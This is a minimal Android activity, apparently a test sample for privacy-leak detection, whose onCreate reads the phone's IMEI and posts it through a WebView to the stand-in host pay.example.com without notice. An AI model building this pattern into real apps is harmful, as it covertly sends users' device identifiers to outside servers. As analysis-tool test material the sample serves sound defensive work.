package p;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import android.webkit.WebView;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        StringBuilder form = new StringBuilder();
        form.append("a=1").append("&d=").append(phone.getImei());
        WebView web = new WebView(this);
        setContentView(web);
        web.postUrl("https://pay.example.com/start", form.toString().getBytes());
    }
}
